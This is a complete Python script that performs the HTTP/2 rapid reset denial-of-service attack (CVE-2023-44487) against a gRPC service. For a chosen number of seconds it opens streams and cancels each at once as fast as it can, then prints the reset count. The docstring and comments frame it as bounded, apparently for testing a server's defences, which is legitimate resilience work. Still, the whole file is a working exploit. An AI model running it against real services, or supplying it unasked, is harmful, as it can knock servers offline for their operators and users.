#!/usr/bin/python3
"""HTTP/2 rapid reset (CVE-2023-44487) against a gRPC port, bounded.

Opens one plaintext HTTP/2 connection (prior knowledge) and, for SECONDS,
opens streams calling METHOD and resets each at once, as fast as it can,
reading whatever the server sends so flow control never stalls. Prints how
many streams it reset. Debian's python3-h2 speaks the protocol.

Usage: rapid_reset.py HOST PORT METHOD SECONDS
"""
import select
import socket
import sys
import time

import h2.config
import h2.connection
import h2.errors
import h2.exceptions


def main():
    host, port, method, seconds = sys.argv[1], int(sys.argv[2]), sys.argv[3], float(sys.argv[4])
    sock = socket.create_connection((host, port), timeout=5)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    headers = [(":method", "POST"), (":scheme", "http"), (":path", method),
               (":authority", f"{host}:{port}"), ("content-type", "application/grpc"),
               ("te", "trailers")]
    reset = 0
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        try:
            stream = conn.get_next_available_stream_id()
            conn.send_headers(stream, headers)
            conn.reset_stream(stream, error_code=h2.errors.ErrorCodes.CANCEL)
            reset += 1
        except h2.exceptions.NoAvailableStreamIDError:
            break  # 2^30 streams: more than any run reaches
        except h2.exceptions.ProtocolError:
            pass
        try:
            data = conn.data_to_send()
            if data:
                sock.sendall(data)
            while select.select([sock], [], [], 0)[0]:
                received = sock.recv(65536)
                if not received:
                    raise ConnectionError("closed by the server")
                conn.receive_data(received)
        except (OSError, h2.exceptions.ProtocolError):
            break  # the server closed the connection: also a defence
    print(reset)


if __name__ == "__main__":
    main()
